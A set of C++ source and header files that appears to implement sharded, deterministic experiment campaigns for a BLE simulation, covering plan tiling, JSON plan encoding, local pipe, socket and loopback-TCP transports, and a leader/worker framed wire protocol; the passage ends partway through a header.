// bit-identical to a single-process run over the same plan.
#pragma once

#include <functional>
#include <string>

#include "campaign/cache.hpp"
#include "campaign/endpoint.hpp"
#include "campaign/plan.hpp"
#include "obs/telemetry.hpp"
#include "world/result_sink.hpp"

namespace injectable::campaign {

struct LeaderOptions {
    /// Worker slots per round (tasks are assigned round-robin).
    int workers = 1;
    /// Issue rounds before the campaign gives up with an explicit error.
    int max_rounds = 5;
    /// Per-read stream timeout; a silent worker past this is abandoned.
    int read_timeout_ms = 120000;
    /// Optional path for a JSON status heartbeat written each round.
    std::string status_path;
    /// Optional callback receiving the same status JSON.
    std::function<void(const std::string&)> on_status;
    /// Telemetry JSONL path; non-empty makes the leader own a
    /// CampaignTelemetrySink for the run (ignored when `telemetry` is set).
    std::string telemetry_path;
    /// External telemetry sink (tests; campaign_ctl when it wants the sink
    /// after the run).  Not owned.  The leader closes it when the run ends.
    ble::obs::CampaignTelemetrySink* telemetry = nullptr;
    /// Straggler watchdog threshold (multiple of median shard latency) for a
    /// leader-owned sink; <= 0 disables.
    double straggler_factor = 4.0;
    /// Live status/watchdog refresh period while a round is in flight; <= 0
    /// keeps the legacy once-per-round status writes only.
    int status_refresh_ms = 0;
};

struct CampaignOutcome {
    bool ok = false;
    int rounds = 0;         ///< issue rounds actually run
    int reissued_tasks = 0; ///< task attempts beyond the first round
    int stragglers = 0;     ///< shard attempts the watchdog flagged
    std::string error;
};

/// Runs `plan` to completion against workers minted by `factory`, then merges
/// into `sink` (the campaign's edge sink — the only consumer of results).
[[nodiscard]] CampaignOutcome run_campaign(const CampaignPlan& plan,
                                           const EndpointFactory& factory,
                                           const LeaderOptions& options,
                                           world::ResultSink& sink);

/// The merge step alone: recombines a *complete* cache into `sink`, per
/// series in trial-index order.  run_campaign calls this after the rounds;
/// `campaign_ctl merge` drives it over frame dumps recorded offline.
void merge_into_sink(const CampaignPlan& plan, const ResultCache& cache,
                     world::ResultSink& sink);

/// JSON status document: {"campaign","tasks_total","tasks_done","round",
/// "pending":[...]} — written to status_path / on_status each round.
/// When a telemetry sink is live its status_fields_json() (trials done,
/// shard state counts, per-worker throughput, stragglers, ETA) is spliced in
/// before the closing brace.
[[nodiscard]] std::string campaign_status_json(const CampaignPlan& plan, int round,
                                               int tasks_done,
                                               const std::vector<int>& pending);

}  // namespace injectable::campaign
