#include "campaign/plan.hpp"

#include <algorithm>

#include "common/json.hpp"
#include "obs/sinks.hpp"
#include "world/replay.hpp"

namespace injectable::campaign {

int CampaignPlan::total_trials() const noexcept {
    int total = 0;
    for (const ShardTask& task : tasks) total += task.count;
    return total;
}

std::vector<int> CampaignPlan::series_tasks(int series_index) const {
    std::vector<int> ids;
    for (const ShardTask& task : tasks) {
        if (task.series == series_index) ids.push_back(task.id);
    }
    std::sort(ids.begin(), ids.end(), [&](int a, int b) {
        return tasks[static_cast<std::size_t>(a)].first < tasks[static_cast<std::size_t>(b)].first;
    });
    return ids;
}

CampaignPlan plan_campaign(std::string name, std::vector<world::ExperimentConfig> series,
                           int shards, world::ResultChannels channels) {
    CampaignPlan plan;
    plan.name = std::move(name);
    // Worker-side normalization: the merger owns the series record, and
    // wall-clock timing would make shard outputs depend on the host.
    channels.series_record = false;
    channels.wall_clock = false;
    plan.channels = channels;
    plan.series = std::move(series);
    if (shards < 1) shards = 1;

    for (std::size_t s = 0; s < plan.series.size(); ++s) {
        world::ExperimentConfig& config = plan.series[s];
        // The record's "jobs" field (and any other host-dependent resolution)
        // must be identical however the campaign executes.
        config.jobs = 1;
        const int runs = config.runs;
        if (runs <= 0) continue;
        const int slices = std::min(shards, runs);
        const int base = runs / slices;
        const int extra = runs % slices;  // first `extra` slices get one more
        int first = 0;
        for (int k = 0; k < slices; ++k) {
            ShardTask task;
            task.id = static_cast<int>(plan.tasks.size());
            task.series = static_cast<int>(s);
            task.first = first;
            task.count = base + (k < extra ? 1 : 0);
            first += task.count;
            plan.tasks.push_back(task);
        }
    }
    return plan;
}

namespace {

void append_bool_field(std::string& out, const char* key, bool value, bool& first) {
    if (!first) out += ',';
    first = false;
    out += '"';
    out += key;
    out += "\":";
    out += value ? "true" : "false";
}

std::string channels_to_json(const world::ResultChannels& ch) {
    std::string out = "{";
    bool first = true;
    append_bool_field(out, "series_record", ch.series_record, first);
    append_bool_field(out, "metrics", ch.metrics, first);
    append_bool_field(out, "traces", ch.traces, first);
    append_bool_field(out, "trace_all", ch.trace_all, first);
    append_bool_field(out, "timelines", ch.timelines, first);
    append_bool_field(out, "profile", ch.profile, first);
    append_bool_field(out, "profile_wall", ch.profile_wall, first);
    append_bool_field(out, "progress", ch.progress, first);
    append_bool_field(out, "captures", ch.captures, first);
    append_bool_field(out, "wall_clock", ch.wall_clock, first);
    out += '}';
    return out;
}

world::ResultChannels channels_from_json(const ble::json::Value& value) {
    world::ResultChannels ch;
    ch.series_record = value.boolean_at("series_record");
    ch.metrics = value.boolean_at("metrics");
    ch.traces = value.boolean_at("traces");
    ch.trace_all = value.boolean_at("trace_all");
    ch.timelines = value.boolean_at("timelines");
    ch.profile = value.boolean_at("profile");
    ch.profile_wall = value.boolean_at("profile_wall");
    ch.progress = value.boolean_at("progress");
    ch.captures = value.boolean_at("captures");
    ch.wall_clock = value.boolean_at("wall_clock");
    return ch;
}

}  // namespace

std::string plan_to_json(const CampaignPlan& plan) {
    std::string out;
    out.reserve(2048);
    out += "{\"e\":\"campaign\",\"v\":" + std::to_string(kCampaignPlanVersion);
    out += ",\"name\":\"";
    ble::obs::append_json_escaped(out, plan.name);
    out += "\",\"channels\":" + channels_to_json(plan.channels);
    out += ",\"series\":[";
    for (std::size_t s = 0; s < plan.series.size(); ++s) {
        const world::ExperimentConfig& config = plan.series[s];
        if (s != 0) out += ',';
        out += "{\"runs\":" + std::to_string(config.runs);
        // The same self-describing config codec every trace header uses:
        // %.17g doubles, bit-exact round trip through parse_trace_meta().
        out += ",\"meta\":" +
               world::experiment_meta_json(config, config.base_seed, world::kSetupRetries);
        out += '}';
    }
    out += "],\"tasks\":[";
    for (std::size_t t = 0; t < plan.tasks.size(); ++t) {
        const ShardTask& task = plan.tasks[t];
        if (t != 0) out += ',';
        out += "{\"id\":" + std::to_string(task.id);
        out += ",\"series\":" + std::to_string(task.series);
        out += ",\"first\":" + std::to_string(task.first);
        out += ",\"count\":" + std::to_string(task.count);
        out += '}';
    }
    out += "]}";
    return out;
}

bool plan_from_json(const std::string& text, CampaignPlan& out, std::string* error) {
    auto fail = [&](std::string message) {
        if (error != nullptr) *error = std::move(message);
        return false;
    };
    out = CampaignPlan{};
    const ble::json::ParseResult parsed = ble::json::parse(text);
    if (!parsed.ok) return fail("plan parse error: " + parsed.error);
    const ble::json::Value& doc = parsed.value;
    if (!doc.is_object() || doc.string_at("e") != "campaign") {
        return fail("not a campaign plan document");
    }
    const std::int64_t version = doc.i64("v", -1);
    if (version != kCampaignPlanVersion) {
        return fail("unsupported plan version " + std::to_string(version));
    }
    out.name = doc.string_at("name", "campaign");
    if (const ble::json::Value* channels = doc.find("channels");
        channels != nullptr && channels->is_object()) {
        out.channels = channels_from_json(*channels);
    }
    const ble::json::Value* series = doc.find("series");
    if (series == nullptr || !series->is_array()) return fail("plan has no \"series\" array");
    for (const ble::json::Value& entry : series->array) {
        if (!entry.is_object()) return fail("non-object series entry");
        const ble::json::Value* meta = entry.find("meta");
        if (meta == nullptr || !meta->is_object()) return fail("series entry has no \"meta\"");
        // dump() keeps number tokens verbatim, so the reconstructed config is
        // bit-identical to the one the planner serialized.
        world::TraceMeta parsed_meta = world::parse_trace_meta(meta->dump());
        if (!parsed_meta.valid) return fail("series meta: " + parsed_meta.error);
        world::ExperimentConfig config = std::move(parsed_meta.config);
        config.runs = static_cast<int>(entry.i64("runs", 1));
        out.series.push_back(std::move(config));
    }
    const ble::json::Value* tasks = doc.find("tasks");
    if (tasks == nullptr || !tasks->is_array()) return fail("plan has no \"tasks\" array");
    for (const ble::json::Value& entry : tasks->array) {
        if (!entry.is_object()) return fail("non-object task entry");
        ShardTask task;
        task.id = static_cast<int>(entry.i64("id", -1));
        task.series = static_cast<int>(entry.i64("series", -1));
        task.first = static_cast<int>(entry.i64("first", 0));
        task.count = static_cast<int>(entry.i64("count", 0));
        if (task.id != static_cast<int>(out.tasks.size())) {
            return fail("task ids must be dense and ordered");
        }
        if (task.series < 0 || task.series >= static_cast<int>(out.series.size())) {
            return fail("task " + std::to_string(task.id) + " references unknown series");
        }
        if (task.first < 0 || task.count < 0 ||
            task.first + task.count > out.series[static_cast<std::size_t>(task.series)].runs) {
            return fail("task " + std::to_string(task.id) + " slice out of range");
        }
        out.tasks.push_back(task);
    }
    return true;
}

std::vector<world::ExperimentConfig> experiment1_grid(int runs) {
    // Mirrors bench/bench_experiment1_hop_interval.cpp: the paper's Fig. 9
    // left panel sweep (22-byte frame, 2 m triangle, per-hop base seeds).
    std::vector<world::ExperimentConfig> grid;
    for (const std::uint16_t hop : {25, 50, 75, 100, 125, 150}) {
        world::ExperimentConfig config;
        config.name = "exp1";
        config.runs = runs;
        config.world.master_sca_ppm = 250.0;
        config.world.master_clock_ppm = 80.0;
        config.world.hop_interval = hop;
        config.ll_payload_size = 12;  // -> 22 bytes / 176 µs over the air
        config.base_seed = 1000 + hop;
        grid.push_back(std::move(config));
    }
    return grid;
}

}  // namespace injectable::campaign
