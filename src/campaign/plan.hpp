// CampaignPlan / ShardTask: a configuration grid split into deterministic,
// re-issuable units of work.
//
// A campaign is an ordered list of series (ExperimentConfig, e.g. the
// Experiment-1 hop-interval grid) plus a task table that tiles every series'
// trials into contiguous slices.  The tiling is fixed at *plan* time — it
// depends only on (series runs, shard count), never on worker count,
// transport, or scheduling — which is what makes the merge deterministic:
//
//  * trial seeds are base_seed + global trial index (SeriesSlice semantics),
//    so any worker executing task t produces exactly the trials a
//    single-process run would;
//  * per-task metric partials are merged in task order, and because each task
//    is a contiguous in-order slice and MetricsSnapshot::merge is
//    grouping-associative, the result equals the sequential trial-index merge;
//  * a lost task re-executes bit-identically, so re-issue is safe.
//
// The plan serializes to one self-describing JSON document (reusing the
// trace meta header codec for each series config, %.17g doubles), which is
// what `campaign_ctl plan` writes and spawned workers load.
#pragma once

#include <string>
#include <vector>

#include "world/experiment.hpp"

namespace injectable::campaign {

/// Bumped when the plan document schema changes incompatibly.
inline constexpr int kCampaignPlanVersion = 1;

/// One unit of re-issuable work: trials [first, first+count) of one series.
struct ShardTask {
    int id = 0;      ///< dense 0..tasks-1, assignment + cache key
    int series = 0;  ///< index into CampaignPlan::series
    int first = 0;   ///< first trial index within the series
    int count = 0;   ///< number of trials

    friend bool operator==(const ShardTask&, const ShardTask&) = default;
};

struct CampaignPlan {
    std::string name = "campaign";
    /// What every worker produces (series_record is the merger's job and
    /// wall_clock is forced off for bit-identical shard outputs; both are
    /// normalized by plan_campaign).
    world::ResultChannels channels;
    std::vector<world::ExperimentConfig> series;
    std::vector<ShardTask> tasks;

    [[nodiscard]] int total_trials() const noexcept;
    /// Task ids of one series, in slice order (ascending `first`).
    [[nodiscard]] std::vector<int> series_tasks(int series_index) const;
};

/// Splits every series into at most `shards` contiguous slices (fewer when a
/// series has fewer runs) and normalizes the configs for campaign execution:
/// jobs pinned to 1 (the record's "jobs" field must not depend on the host),
/// wall_clock off, series_record reserved for the merger.
[[nodiscard]] CampaignPlan plan_campaign(std::string name,
                                         std::vector<world::ExperimentConfig> series,
                                         int shards, world::ResultChannels channels = {});

/// One JSON document (single line) describing the whole plan.
[[nodiscard]] std::string plan_to_json(const CampaignPlan& plan);

/// Parses plan_to_json() output.  Returns false and sets *error on malformed
/// or version-mismatched documents.
[[nodiscard]] bool plan_from_json(const std::string& text, CampaignPlan& out,
                                  std::string* error = nullptr);

/// The paper's Experiment-1 grid (Fig. 9): hop interval sweep over
/// {25, 50, 75, 100, 125, 150} with the bench's clock/drift parameters and
/// per-hop base seeds — the reference campaign for CI's sharded-vs-single
/// byte-identity gate.
[[nodiscard]] std::vector<world::ExperimentConfig> experiment1_grid(int runs = 25);

}  // namespace injectable::campaign
