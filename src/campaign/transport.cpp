#include "campaign/transport.hpp"

#include <cerrno>
#include <chrono>
#include <cstring>

#include <fcntl.h>
#include <netinet/in.h>
#include <poll.h>
#include <sys/socket.h>
#include <sys/un.h>
#include <unistd.h>

namespace injectable::campaign {

namespace {

constexpr std::size_t kReadChunk = 64 * 1024;

std::string errno_string(const char* what) {
    return std::string(what) + ": " + std::strerror(errno);
}

}  // namespace

FdStream::~FdStream() {
    if (fd_ >= 0) ::close(fd_);
}

bool FdStream::write(std::string_view bytes) {
    if (fd_ < 0 || write_closed_) return false;
    std::size_t off = 0;
    while (off < bytes.size()) {
        // MSG_NOSIGNAL is socket-only; a closed pipe raises SIGPIPE instead,
        // so writes go through plain write() with SIGPIPE ignored by callers
        // that spawn workers (campaign_ctl / the endpoint layer).
        const ssize_t n = ::write(fd_, bytes.data() + off, bytes.size() - off);
        if (n < 0) {
            if (errno == EINTR) continue;
            return false;
        }
        off += static_cast<std::size_t>(n);
    }
    return true;
}

ReadStatus FdStream::read_some(std::string& out, int timeout_ms) {
    if (fd_ < 0) return ReadStatus::kError;
    struct pollfd pfd;
    pfd.fd = fd_;
    pfd.events = POLLIN;
    pfd.revents = 0;
    for (;;) {
        const int rc = ::poll(&pfd, 1, timeout_ms);
        if (rc < 0) {
            if (errno == EINTR) continue;
            return ReadStatus::kError;
        }
        if (rc == 0) return ReadStatus::kTimeout;
        break;
    }
    char buffer[kReadChunk];
    for (;;) {
        const ssize_t n = ::read(fd_, buffer, sizeof(buffer));
        if (n < 0) {
            if (errno == EINTR) continue;
            return ReadStatus::kError;
        }
        if (n == 0) return ReadStatus::kEof;
        out.append(buffer, static_cast<std::size_t>(n));
        return ReadStatus::kData;
    }
}

void FdStream::close_write() {
    if (fd_ < 0 || write_closed_) return;
    write_closed_ = true;
    if (::shutdown(fd_, SHUT_WR) == 0) return;
    if (errno == ENOTSOCK) {
        // Pipes have no half-close; the read side (if any) is a separate fd,
        // so closing is the only way to deliver EOF.
        ::close(fd_);
        fd_ = -1;
    }
}

void Conduit::push(std::string_view bytes) {
    {
        const std::lock_guard lock(mutex_);
        if (closed_) return;
        buffer_.append(bytes);
    }
    cv_.notify_all();
}

void Conduit::close() {
    {
        const std::lock_guard lock(mutex_);
        closed_ = true;
    }
    cv_.notify_all();
}

ReadStatus Conduit::pull(std::string& out, int timeout_ms) {
    std::unique_lock lock(mutex_);
    auto ready = [&] { return !buffer_.empty() || closed_; };
    if (timeout_ms < 0) {
        cv_.wait(lock, ready);
    } else if (!cv_.wait_for(lock, std::chrono::milliseconds(timeout_ms), ready)) {
        return ReadStatus::kTimeout;
    }
    if (!buffer_.empty()) {
        out.append(buffer_);
        buffer_.clear();
        return ReadStatus::kData;
    }
    return ReadStatus::kEof;  // closed and drained
}

bool ConduitStream::write(std::string_view bytes) {
    write_->push(bytes);
    return true;
}

ReadStatus ConduitStream::read_some(std::string& out, int timeout_ms) {
    return read_->pull(out, timeout_ms);
}

void ConduitStream::close_write() { write_->close(); }

ConduitPair make_conduit_pair() {
    auto to_leader = std::make_shared<Conduit>();
    auto to_worker = std::make_shared<Conduit>();
    ConduitPair pair;
    pair.leader = std::make_unique<ConduitStream>(to_leader, to_worker);
    pair.worker = std::make_unique<ConduitStream>(to_worker, to_leader);
    return pair;
}

int listen_uds(const std::string& path, std::string* error) {
    struct sockaddr_un addr;
    if (path.size() >= sizeof(addr.sun_path)) {
        if (error != nullptr) *error = "UDS path too long: " + path;
        return -1;
    }
    const int fd = ::socket(AF_UNIX, SOCK_STREAM, 0);
    if (fd < 0) {
        if (error != nullptr) *error = errno_string("socket(AF_UNIX)");
        return -1;
    }
    ::unlink(path.c_str());
    std::memset(&addr, 0, sizeof(addr));
    addr.sun_family = AF_UNIX;
    std::memcpy(addr.sun_path, path.c_str(), path.size());
    if (::bind(fd, reinterpret_cast<struct sockaddr*>(&addr), sizeof(addr)) != 0 ||
        ::listen(fd, 8) != 0) {
        if (error != nullptr) *error = errno_string(("bind/listen " + path).c_str());
        ::close(fd);
        return -1;
    }
    return fd;
}

int listen_tcp_loopback(int* port_out, std::string* error) {
    const int fd = ::socket(AF_INET, SOCK_STREAM, 0);
    if (fd < 0) {
        if (error != nullptr) *error = errno_string("socket(AF_INET)");
        return -1;
    }
    const int one = 1;
    ::setsockopt(fd, SOL_SOCKET, SO_REUSEADDR, &one, sizeof(one));
    struct sockaddr_in addr;
    std::memset(&addr, 0, sizeof(addr));
    addr.sin_family = AF_INET;
    addr.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
    addr.sin_port = 0;  // ephemeral
    if (::bind(fd, reinterpret_cast<struct sockaddr*>(&addr), sizeof(addr)) != 0 ||
        ::listen(fd, 8) != 0) {
        if (error != nullptr) *error = errno_string("bind/listen 127.0.0.1");
        ::close(fd);
        return -1;
    }
    socklen_t len = sizeof(addr);
    if (::getsockname(fd, reinterpret_cast<struct sockaddr*>(&addr), &len) != 0) {
        if (error != nullptr) *error = errno_string("getsockname");
        ::close(fd);
        return -1;
    }
    if (port_out != nullptr) *port_out = static_cast<int>(ntohs(addr.sin_port));
    return fd;
}

int accept_connection(int listen_fd, int timeout_ms, std::string* error) {
    struct pollfd pfd;
    pfd.fd = listen_fd;
    pfd.events = POLLIN;
    pfd.revents = 0;
    for (;;) {
        const int rc = ::poll(&pfd, 1, timeout_ms);
        if (rc < 0) {
            if (errno == EINTR) continue;
            if (error != nullptr) *error = errno_string("poll(listen)");
            return -1;
        }
        if (rc == 0) {
            if (error != nullptr) *error = "accept timed out";
            return -1;
        }
        break;
    }
    const int fd = ::accept(listen_fd, nullptr, nullptr);
    if (fd < 0 && error != nullptr) *error = errno_string("accept");
    return fd;
}

int connect_uds(const std::string& path, std::string* error) {
    struct sockaddr_un addr;
    if (path.size() >= sizeof(addr.sun_path)) {
        if (error != nullptr) *error = "UDS path too long: " + path;
        return -1;
    }
    const int fd = ::socket(AF_UNIX, SOCK_STREAM, 0);
    if (fd < 0) {
        if (error != nullptr) *error = errno_string("socket(AF_UNIX)");
        return -1;
    }
    std::memset(&addr, 0, sizeof(addr));
    addr.sun_family = AF_UNIX;
    std::memcpy(addr.sun_path, path.c_str(), path.size());
    if (::connect(fd, reinterpret_cast<struct sockaddr*>(&addr), sizeof(addr)) != 0) {
        if (error != nullptr) *error = errno_string(("connect " + path).c_str());
        ::close(fd);
        return -1;
    }
    return fd;
}

int connect_tcp_loopback(int port, std::string* error) {
    const int fd = ::socket(AF_INET, SOCK_STREAM, 0);
    if (fd < 0) {
        if (error != nullptr) *error = errno_string("socket(AF_INET)");
        return -1;
    }
    struct sockaddr_in addr;
    std::memset(&addr, 0, sizeof(addr));
    addr.sin_family = AF_INET;
    addr.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
    addr.sin_port = htons(static_cast<std::uint16_t>(port));
    if (::connect(fd, reinterpret_cast<struct sockaddr*>(&addr), sizeof(addr)) != 0) {
        if (error != nullptr) *error = errno_string("connect 127.0.0.1");
        ::close(fd);
        return -1;
    }
    return fd;
}

}  // namespace injectable::campaign
