// Byte-stream transports for the campaign wire.
//
// The leader/worker protocol needs nothing from a transport but ordered
// bytes and a detectable end-of-stream, so everything is a ByteStream:
//
//  * FdStream  — any POSIX fd (pipe to a spawned worker, UDS, TCP socket);
//    reads are poll()-bounded so a hung worker turns into a timeout the
//    leader converts into task re-issue instead of a wedged campaign;
//  * Conduit / ConduitStream — an in-memory pipe pair for in-process
//    workers (threads) and for tests.
//
// Listener/connector helpers cover the socket transports (UDS, loopback
// TCP); process spawning lives in endpoint.cpp.
#pragma once

#include <condition_variable>
#include <cstdint>
#include <memory>
#include <mutex>
#include <string>
#include <string_view>

namespace injectable::campaign {

enum class ReadStatus {
    kData = 0,     ///< bytes were appended to `out`
    kEof = 1,      ///< orderly end of stream
    kTimeout = 2,  ///< nothing arrived within the deadline
    kError = 3,    ///< transport failure
};

class ByteStream {
public:
    virtual ~ByteStream() = default;

    /// Writes all of `bytes` (blocking); false on failure (peer gone).
    virtual bool write(std::string_view bytes) = 0;

    /// Appends whatever is available (blocking up to timeout_ms; < 0 waits
    /// forever) to `out`.
    [[nodiscard]] virtual ReadStatus read_some(std::string& out, int timeout_ms) = 0;

    /// Signals end-of-stream to the peer (half-close where supported).
    virtual void close_write() = 0;
};

/// Owns a POSIX fd.  `close_write` uses shutdown(SHUT_WR) for sockets and
/// close() for pipes (fds where shutdown() fails with ENOTSOCK).
class FdStream final : public ByteStream {
public:
    explicit FdStream(int fd) : fd_(fd) {}
    ~FdStream() override;
    FdStream(const FdStream&) = delete;
    FdStream& operator=(const FdStream&) = delete;

    bool write(std::string_view bytes) override;
    [[nodiscard]] ReadStatus read_some(std::string& out, int timeout_ms) override;
    void close_write() override;

    [[nodiscard]] int fd() const noexcept { return fd_; }

private:
    int fd_ = -1;
    bool write_closed_ = false;
};

/// One direction of an in-memory pipe: a mutex/condvar-guarded byte buffer
/// with an explicit closed flag.
class Conduit {
public:
    void push(std::string_view bytes);
    void close();
    [[nodiscard]] ReadStatus pull(std::string& out, int timeout_ms);

private:
    std::mutex mutex_;  // guards: buffer_, closed_ (cv_ waits under it)
    std::condition_variable cv_;
    std::string buffer_;
    bool closed_ = false;
};

/// A ByteStream over two conduits (read from one, write to the other); the
/// peer stream swaps them.  make_conduit_pair() returns both ends.
class ConduitStream final : public ByteStream {
public:
    ConduitStream(std::shared_ptr<Conduit> read_side, std::shared_ptr<Conduit> write_side)
        : read_(std::move(read_side)), write_(std::move(write_side)) {}

    bool write(std::string_view bytes) override;
    [[nodiscard]] ReadStatus read_some(std::string& out, int timeout_ms) override;
    void close_write() override;

private:
    std::shared_ptr<Conduit> read_;
    std::shared_ptr<Conduit> write_;
};

struct ConduitPair {
    std::unique_ptr<ByteStream> leader;  ///< leader end
    std::unique_ptr<ByteStream> worker;  ///< worker end
};
[[nodiscard]] ConduitPair make_conduit_pair();

// ---------------------------------------------------------------------------
// Socket helpers (every function returns -1 and sets *error on failure).

/// Binds + listens on a filesystem UDS path (unlinking any stale socket).
[[nodiscard]] int listen_uds(const std::string& path, std::string* error);
/// Binds + listens on 127.0.0.1; `*port_out` receives the (ephemeral) port.
[[nodiscard]] int listen_tcp_loopback(int* port_out, std::string* error);
/// Accepts one connection (poll-bounded); closes nothing on timeout.
[[nodiscard]] int accept_connection(int listen_fd, int timeout_ms, std::string* error);
[[nodiscard]] int connect_uds(const std::string& path, std::string* error);
[[nodiscard]] int connect_tcp_loopback(int port, std::string* error);

}  // namespace injectable::campaign
