#include "campaign/wire.hpp"

#include "common/json.hpp"
#include "obs/sinks.hpp"
#include "world/replay.hpp"

namespace injectable::campaign {

namespace {

std::string frame_of(WireType type, const std::string& payload) {
    return ble::common::encode_frame(static_cast<std::uint32_t>(type), payload);
}

}  // namespace

std::string encode_hello(int worker) {
    return frame_of(WireType::kHello, "{\"worker\":" + std::to_string(worker) + "}");
}

std::string encode_task_start(int task) {
    return frame_of(WireType::kTaskStart, "{\"task\":" + std::to_string(task) + "}");
}

std::string encode_task_results(int task, const std::vector<world::RunResult>& results) {
    std::string payload = "{\"task\":" + std::to_string(task) + ",\"trials\":[";
    for (std::size_t i = 0; i < results.size(); ++i) {
        if (i != 0) payload += ',';
        world::append_run_result_json(payload, results[i]);
    }
    payload += "]}";
    return frame_of(WireType::kTaskResults, payload);
}

std::string encode_task_metrics(int task, const ble::obs::MetricsSnapshot& metrics) {
    return frame_of(WireType::kTaskMetrics, "{\"task\":" + std::to_string(task) +
                                                ",\"metrics\":" + metrics.to_json() + "}");
}

std::string encode_artifact(int task, const world::TrialArtifact& artifact) {
    std::string payload = "{\"task\":" + std::to_string(task);
    payload += ",\"kind\":" + std::to_string(static_cast<int>(artifact.kind));
    payload += ",\"stem\":\"";
    ble::obs::append_json_escaped(payload, artifact.stem);
    payload += "\",\"seed\":" + std::to_string(artifact.seed);
    payload += ",\"success\":";
    payload += artifact.success ? "true" : "false";
    payload += ",\"content\":\"";
    ble::obs::append_json_escaped(payload, artifact.content);
    payload += "\"}";
    return frame_of(WireType::kArtifact, payload);
}

std::string encode_progress(int task, int done, int total) {
    return frame_of(WireType::kProgress, "{\"task\":" + std::to_string(task) +
                                             ",\"done\":" + std::to_string(done) +
                                             ",\"total\":" + std::to_string(total) + "}");
}

std::string encode_task_done(int task) {
    return frame_of(WireType::kTaskDone, "{\"task\":" + std::to_string(task) + "}");
}

std::string encode_worker_done(int worker) {
    return frame_of(WireType::kWorkerDone, "{\"worker\":" + std::to_string(worker) + "}");
}

std::string encode_error(int worker, const std::string& message) {
    std::string payload = "{\"worker\":" + std::to_string(worker) + ",\"message\":\"";
    ble::obs::append_json_escaped(payload, message);
    payload += "\"}";
    return frame_of(WireType::kError, payload);
}

std::string encode_telemetry(const ble::obs::WorkerTelemetry& telemetry) {
    return frame_of(WireType::kTelemetry, ble::obs::worker_telemetry_to_json(telemetry));
}

bool decode_wire_message(const ble::common::Frame& frame, WireMessage& out, std::string* error) {
    auto fail = [&](std::string message) {
        if (error != nullptr) *error = std::move(message);
        return false;
    };
    out = WireMessage{};
    const auto type = static_cast<WireType>(frame.type);
    switch (type) {
        case WireType::kHello:
        case WireType::kTaskStart:
        case WireType::kTaskResults:
        case WireType::kTaskMetrics:
        case WireType::kArtifact:
        case WireType::kProgress:
        case WireType::kTaskDone:
        case WireType::kWorkerDone:
        case WireType::kError:
        case WireType::kTelemetry: break;
        default: return fail("unknown frame type " + std::to_string(frame.type));
    }
    out.type = type;

    const ble::json::ParseResult parsed = ble::json::parse(frame.payload);
    if (!parsed.ok) return fail("frame payload parse error: " + parsed.error);
    const ble::json::Value& doc = parsed.value;
    if (!doc.is_object()) return fail("frame payload is not an object");

    out.worker = static_cast<int>(doc.i64("worker", -1));
    out.task = static_cast<int>(doc.i64("task", -1));
    switch (type) {
        case WireType::kTaskResults: {
            const ble::json::Value* trials = doc.find("trials");
            if (trials == nullptr || !trials->is_array()) {
                return fail("TaskResults without \"trials\" array");
            }
            out.results.reserve(trials->array.size());
            for (const ble::json::Value& trial : trials->array) {
                if (!trial.is_object()) return fail("non-object trial entry");
                out.results.push_back(world::run_result_from_json(trial));
            }
            break;
        }
        case WireType::kTaskMetrics: {
            const ble::json::Value* metrics = doc.find("metrics");
            if (metrics == nullptr) return fail("TaskMetrics without \"metrics\"");
            std::string metrics_error;
            if (!ble::obs::metrics_snapshot_from_json(*metrics, out.metrics, &metrics_error)) {
                return fail("TaskMetrics: " + metrics_error);
            }
            break;
        }
        case WireType::kArtifact: {
            const std::int64_t kind = doc.i64("kind", -1);
            if (kind < 0 || kind > 3) return fail("artifact kind out of range");
            out.artifact.kind = static_cast<world::ArtifactKind>(kind);
            out.artifact.stem = doc.string_at("stem");
            out.artifact.seed = doc.u64("seed");
            out.artifact.success = doc.boolean_at("success");
            const ble::json::Value* content = doc.find("content");
            if (content == nullptr) return fail("artifact without \"content\"");
            out.artifact.content = content->as_string();
            break;
        }
        case WireType::kProgress:
            out.done = static_cast<int>(doc.i64("done"));
            out.total = static_cast<int>(doc.i64("total"));
            break;
        case WireType::kError: out.message = doc.string_at("message"); break;
        case WireType::kTelemetry: {
            ble::obs::WorkerTelemetry& t = out.telemetry;
            t.worker = out.worker;
            t.task = out.task;
            t.t_ms = doc.i64("t_ms");
            t.trials_done = static_cast<int>(doc.i64("trials_done"));
            t.trials_total = static_cast<int>(doc.i64("trials_total"));
            t.tx_frames = doc.u64("tx_frames");
            t.tx_bytes = doc.u64("tx_bytes");
            t.final_snapshot = doc.boolean_at("final");
            if (const ble::json::Value* counters = doc.find("counters"); counters != nullptr) {
                if (!counters->is_object()) return fail("Telemetry \"counters\" is not an object");
                for (const auto& [name, value] : counters->object)
                    t.counters[name] = value.as_u64();
            }
            if (const ble::json::Value* hists = doc.find("hists"); hists != nullptr) {
                if (!hists->is_object()) return fail("Telemetry \"hists\" is not an object");
                for (const auto& [name, value] : hists->object) {
                    if (!value.is_object()) return fail("Telemetry hist entry is not an object");
                    ble::obs::HistTotal& h = t.hists[name];
                    h.n = value.u64("n");
                    h.sum = value.u64("sum");
                }
            }
            break;
        }
        case WireType::kHello:
        case WireType::kTaskStart:
        case WireType::kTaskDone:
        case WireType::kWorkerDone:
            break;  // header-only frames: worker/task fields already decoded
    }
    return true;
}

}  // namespace injectable::campaign
