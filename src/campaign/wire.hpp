// Campaign wire protocol: typed, length-prefixed result frames.
//
// Workers stream everything a shard produces back to the leader as
// common::Frame messages (u32le length + type + JSON payload).  The protocol
// is strictly one-directional after launch — task assignment travels in the
// launch arguments (or the worker command line), results travel back — so a
// transport only has to be a byte stream with EOF.
//
// Per task the well-formed sequence is
//
//   TaskStart, (Artifact | Progress | Telemetry)*, TaskResults, [TaskMetrics], TaskDone
//
// and the leader's ResultCache buffers everything between TaskStart and
// TaskDone: a stream that dies mid-task (crash, dropped connection, torn
// frame) contributes nothing for that task, which is what makes re-issue
// safe.
//
// Telemetry frames are informational (never cached, never merged into
// results): periodic heartbeats plus, at task end, a compact snapshot of the
// worker's MetricsRegistry / prof.* span totals.  They may also appear
// outside a task window (the worker announces itself with one right after
// Hello).  Dropping every Telemetry frame changes nothing about the merged
// campaign output — that is the determinism boundary DESIGN.md §12 pins
// down.
#pragma once

#include <cstdint>
#include <string>
#include <vector>

#include "common/framing.hpp"
#include "obs/metrics.hpp"
#include "obs/telemetry.hpp"
#include "world/experiment.hpp"

namespace injectable::campaign {

enum class WireType : std::uint32_t {
    kHello = 1,        ///< worker announces itself: {"worker":id}
    kTaskStart = 2,    ///< {"task":id}
    kTaskResults = 3,  ///< {"task":id,"trials":[...]} — slice order
